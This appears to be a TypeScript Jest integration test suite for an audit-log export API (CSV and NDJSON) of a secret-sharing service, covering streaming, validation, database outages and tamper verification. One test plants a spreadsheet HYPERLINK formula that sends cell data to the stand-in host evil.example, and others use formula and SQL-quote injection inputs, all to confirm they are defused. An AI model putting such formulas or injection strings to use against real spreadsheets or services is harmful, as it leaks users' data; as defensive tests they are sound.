import http from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import { openDatabase } from '../../src/database/open-database.js';
import { residentBytes } from '../support/process-facts.js';
import { startPostgres, type TestPostgres } from '../support/postgres-server.js';
import { insertEvents } from './kit/stored-events.js';
import { expectField, expectProblem } from './kit/problems.js';
import { openPortal, until, type Portal } from './kit/portal.js';
import { caughtUp } from './kit/recorded.js';
import { adminEnv, rootOf, type Visitor } from './kit/visitors.js';

/** More rows than any buffer on the way holds. */
const ROWS = Number(process.env['BURNBAG_TEST_EXPORT_ROWS'] ?? 30_000);
const MIB = 1_048_576;
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';

/** The cells of a text by RFC 4180. */
function cells(text: string): string[][] {
  const rows = text.split('\r\n');
  expect(rows.pop()).toBe('');
  const CELL = /(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g;
  return rows.map((row) =>
    [...row.matchAll(CELL)].map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain),
  );
}

let postgres: TestPostgres;
let portal: Portal;
let root: Visitor;

beforeAll(async () => {
  postgres = await startPostgres();
  portal = await openPortal({ env: { ...(await adminEnv()), DATABASE_URL: postgres.url } });
  root = await rootOf(portal);
  const database = await openDatabase({ url: postgres.url });
  await insertEvents(database, ROWS);
  await database.close();
});
afterAll(() => portal.close());

const residentMib = (): number => residentBytes(portal.apps[0]?.pid ?? 0) / 2 ** 20;

/** Begins an export and hands the answer over as it comes. */
function begin(query: string): Promise<http.IncomingMessage> {
  return new Promise((resolve, reject) => {
    const url = `${portal.client.url}/api/v1/admin/audit/export?${query}`;
    http.get(url, { headers: { cookie: root.cookie }, agent: false }, resolve).on('error', reject);
  });
}

describe('an export of the trail', () => {
  it('is a CSV file that no spreadsheet runs', async () => {
    const body = { json: { content: 'x' }, headers: { 'User-Agent': FORMULA } };
    const made = await portal.client.send('POST', '/api/v1/secrets', body);
    await caughtUp(portal);
    const { status, headers, text } = await root.send(
      'GET',
      `/admin/audit/export?format=csv&ref=${String(made.body.ref)}`,
    );
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(headers['content-disposition']).toMatch(/^attachment; filename=burnbag-audit-\d{8}T\d{6}Z\.csv$/);
    expect(headers['cache-control']).toContain('no-store');
    const [names, row, ...none] = cells(text);
    expect(none).toEqual([]);
    expect(names?.join()).toBe('id,createdAt,ref,action,actor,ipAddress,userAgent,extra,bucket,sequence');
    expect(row?.[6]).toBe(`'${FORMULA}`);
    expect(JSON.parse(row?.[7] ?? '')).toMatchObject({ kind: 'text', maxViews: 1 });
  });

  it.each(['+1', '-1', '@SUM(A1)', '=1'])('defuses %j', async (agent) => {
    const made = await portal.client.send('POST', '/api/v1/secrets', {
      json: { content: 'x' },
      headers: { 'User-Agent': agent },
    });
    await caughtUp(portal);
    const { text } = await root.send('GET', `/admin/audit/export?format=csv&ref=${String(made.body.ref)}`);
    expect(cells(text)[1]?.[6]).toBe(`'${agent}`);
  });

  it('is NDJSON of the same events as the search finds, and nothing where there is nothing', async () => {
    const query = 'actor=p7@corp.example';
    const { text, headers } = await root.send('GET', `/admin/audit/export?format=ndjson&${query}`);
    expect(headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as object);
    const { body } = await root.send('GET', `/admin/audit?limit=500&${query}`);
    expect(lines).toEqual(body.events);
    expect(lines.length).toBeGreaterThan(0);
    const nobody = 'actor=nobody@corp.example';
    expect((await root.send('GET', `/admin/audit/export?format=ndjson&${nobody}`)).text).toBe('');
    const empty = await root.send('GET', `/admin/audit/export?format=csv&${nobody}`);
    expect(cells(empty.text)).toHaveLength(1);
  });

  it('streams all of it to a slow reader in flat memory', async () => {
    let [most, bytes, lines] = [0, 0, 0];
    const readSlowly = async () => {
      [bytes, lines] = [0, 0];
      for await (const chunk of (await begin('format=csv')) as AsyncIterable<Buffer>) {
        bytes += chunk.length;
        for (const byte of chunk) if (byte === 10) lines += 1;
        most = Math.max(most, residentMib());
        await delay(2);
      }
    };
    // As large as a process grows with its first export, it may stay.
    await readSlowly();
    const before = most;
    await readSlowly();
    expect(lines).toBeGreaterThan(ROWS);
    expect(bytes).toBeGreaterThan(ROWS * 200);
    process.stderr.write(
      `export: ${lines} lines, ${(bytes / MIB).toFixed(1)} MiB, grew by ${(most - before).toFixed(1)} MiB\n`,
    );
    expect(most - before).toBeLessThan(64);
  });

  it('ends when its reader leaves, and the log says so', async () => {
    const answer = await begin('format=ndjson');
    answer.once('data', () => answer.destroy());
    answer.on('error', () => undefined);
    await until(() => /"isWhole":false.*finished an export/.test(portal.apps[0]?.output() ?? ''));
    expect((await root.send('GET', '/admin/audit?limit=1')).status).toBe(200);
  });

  it('is refused with each wrong field named', async () => {
    for (const [query, field] of [
      ['format=xml', 'format'],
      ['', 'format'],
      ['format=csv&from=yesterday', 'from'],
      ['format=csv&from=0000-01-01', 'from'],
      ['format=csv&to=2026-13-01', 'to'],
      ['format=csv&from=2026-11-02&to=2026-11-01', 'to'],
      ['format=csv&ref=xyz', 'ref'],
      ['format=csv&actor=', 'actor'],
      ['format=csv&actor=%00', 'actor'],
      [`format=csv&actor=${'x'.repeat(321)}`, 'actor'],
      ['format=csv&action=stolen', 'action'],
      ["format=csv&action=created'--", 'action'],
      ['format=csv&address=nowhere', 'address'],
      ['format=csv&address=10.%25', 'address'],
      ['format=csv&address=10.0.0.1&address=10.0.0.2', 'address'],
      ['format=csv&limit=1', 'limit'],
    ])
      expectField(await root.send('GET', `/admin/audit/export?${query}`), field ?? '');
    for (const cursor of ['x', '1', '1-', `${'9'.repeat(16)}-1`, `1-${'9'.repeat(19)}`])
      expectField(await root.send('GET', `/admin/audit?cursor=${cursor}`), 'cursor');
    for (const cursor of [`${'8'.repeat(16)}-${'9'.repeat(18)}`, '0-0'])
      expect((await root.send('GET', `/admin/audit?cursor=${cursor}`)).status).toBe(200);
  });

  it('finds an address as the trail keeps it', async () => {
    const { body } = await root.send('GET', '/admin/audit?address=127.0.0.1&limit=1');
    expect(body.events).toMatchObject([{ ipAddress: '127.0.0.0' }]);
    for (const address of ['127.0.0.*', '::ffff:127.0.0.9'])
      expect((await root.send('GET', `/admin/audit?address=${address}&limit=1`)).body).toEqual(body);
  });

  it('breaks off, rather than look whole, when the database goes away in the middle', async () => {
    const answer = await begin('format=ndjson');
    await new Promise((resolve) => answer.once('readable', resolve));
    await postgres.kill9();
    const broken = (async () => {
      for await (const _ of answer);
    })();
    await expect(broken).rejects.toThrow('aborted');
    await until(() => portal.apps[0]?.output().includes('an export broke off') ?? false);
    await until(async () => (await root.send('GET', '/admin/audit')).status === 503);
    expectProblem(await root.send('GET', '/admin/audit/export?format=csv'), 503, 'store_unavailable');
    for (const path of ['/admin/overview', '/admin/secrets'])
      expectProblem(await root.send('GET', path), 503, 'store_unavailable');
    expectProblem(await root.send('POST', '/admin/audit/verify'), 503, 'store_unavailable');
    // The page that is looked at in such an hour still says what can be said.
    const system = await root.send('GET', '/admin/system');
    expect(system.status).toBe(200);
    expect(system.body).toMatchObject({
      database: { engine: 'postgresql', reachable: false },
      redis: { reachable: true },
    });
    await postgres.restart();
    await until(async () => (await root.send('GET', '/admin/audit')).status === 200, 30_000);
  });
});

describe('a verification of a changed trail', () => {
  it('says what is wrong, and keeps saying it', async () => {
    await until(async () => (await root.send('POST', '/admin/audit/verify')).status === 200, 30_000);
    const { body } = await root.send('POST', '/admin/audit/verify');
    // The inserted rows are in no chain.
    expect(body).toMatchObject({
      intact: false,
      events: expect.any(Number),
      finding: expect.stringMatching(/^inserted: bucket \d+/),
    });
    const { chain } = (await root.send('GET', '/admin/system')).body;
    expect(chain).toMatchObject({ lastVerification: body });
  });
});
